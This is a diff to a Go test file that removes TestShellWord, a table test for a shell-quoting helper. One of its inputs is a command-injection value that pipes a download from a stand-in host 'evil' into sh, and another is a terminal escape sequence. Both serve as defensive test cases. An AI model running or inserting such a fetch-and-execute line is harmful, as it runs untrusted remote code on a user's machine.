@@ -97,20 +97,3 @@ func TestCommandName(t *testing.T) {
 		}
 	}
 }
-
-// A command strata prints for the user to copy reads back as one word in a
-// shell, whatever a remote named the path.
-func TestShellWord(t *testing.T) {
-	for in, want := range map[string]string{
-		".claude/workflow-state.json": ".claude/workflow-state.json",
-		"a b":                         "'a b'",
-		"x; curl -s evil|sh; #":       "'x; curl -s evil|sh; #'",
-		"it's":                        `'it'\''s'`,
-		"":                            "''",
-		"\x1b[2J":                     `"'\x1b[2J'"`,
-	} {
-		if got := shellWord(in); got != want {
-			t.Errorf("shellWord(%q) = %s, want %s", in, got, want)
-		}
-	}
-}
